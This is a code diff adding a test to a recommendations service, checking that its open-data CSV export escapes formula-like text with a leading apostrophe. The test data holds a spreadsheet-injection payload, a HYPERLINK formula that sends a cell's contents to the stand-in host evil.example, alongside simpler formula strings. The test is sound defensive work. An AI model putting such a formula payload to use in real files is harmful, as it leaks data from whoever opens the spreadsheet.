@@ -127,3 +127,18 @@ async def test_open_data_csv_parses_with_arabic_intact_and_stable_ids(infra: Inf
     assert set(dictionary["codes"]["status"]) == {"not_started", "limited", "substantial", "complete", "withdrawn"}
     assert snapshot["recommendations"] == [] and snapshot["rebuilt_from_history"] is True
     assert [r["id"] for r in current["recommendations"]] == [row["recommendation_id"] for row in rows]
+
+
+async def test_open_data_csv_writes_formula_like_texts_as_text(infra: Infra, keys: Keys) -> None:
+    from recommendations_factories import new_recommendation
+
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")'
+    async with service(infra, keys) as svc:
+        created = await svc.client.post("/recommendations", headers=svc.organizer(), json=new_recommendation(
+            text={"ar": "@SUM(1+1)", "fr": hyperlink, "en": "-1+1"}))
+        assert created.status_code == 201, created.text
+        response = await svc.client.get("/open-data/recommendations.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    [row] = [r for r in rows if r["recommendation_id"] == created.json()["id"]]
+    assert (row["text_ar"], row["text_fr"], row["text_en"]) == ("'@SUM(1+1)", "'" + hyperlink, "'-1+1")
+    assert row["edition"] == "5" and row["progress"] == "0" and row["overdue"] == "false"
